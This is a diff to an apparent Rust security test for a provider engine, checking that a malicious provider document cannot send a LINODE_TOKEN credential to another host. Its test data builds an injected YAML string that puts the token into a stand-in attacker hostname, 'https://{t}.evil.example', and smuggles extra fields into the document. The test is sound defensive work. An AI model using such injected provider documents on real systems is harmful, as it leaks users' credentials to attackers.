@@ -290,7 +290,8 @@ async fn a_shadowing_document_may_not_take_the_credential_elsewhere() {
 
     // Nor does another way to send it than as a credential.
     for url in [format!("{}/{{t}}", server.url()), "https://{t}.evil.example".to_owned()] {
-        let variables = format!("'{url}'\n    variables: {{t: {{x-stackQL-envVar: LINODE_TOKEN}}}}");
+        let variables =
+            format!("{url}'\n    variables: {{t: {{x-stackQL-envVar: LINODE_TOKEN}}}}\n    description: 'd");
         let service = widgets_service("SERVER", &usual(), "$.items").replace("SERVER", &variables);
         let hidden = provider_dir("linode", "v9.9.9", &[("images", &service)], "type: null_auth");
         let engine = builder().env(env.clone()).providers_dir(hidden.path()).build().unwrap();
